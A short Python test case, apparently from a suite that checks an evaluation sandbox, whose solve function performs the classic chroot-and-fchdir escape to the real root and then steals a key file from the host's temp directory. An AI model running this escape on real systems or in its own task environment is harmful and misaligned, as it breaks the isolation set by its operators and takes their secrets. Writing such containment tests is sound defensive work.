# attack: leave a root by the classical chroot and fchdir
# contained-at: namespaces restricted
# expect: seed-score
import os

from kit import *


def solve(instance):
    for base in ("/", ".", "/usr/lib", "/tmp"):
        with quietly():
            outside = os.open(base, os.O_PATH | os.O_DIRECTORY)
            os.makedirs("jail", exist_ok=True)
            os.chroot("jail")
            got("chroot")
            os.fchdir(outside)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
    steal(f"{host.TMP}/key.txt")
    return answer(instance)
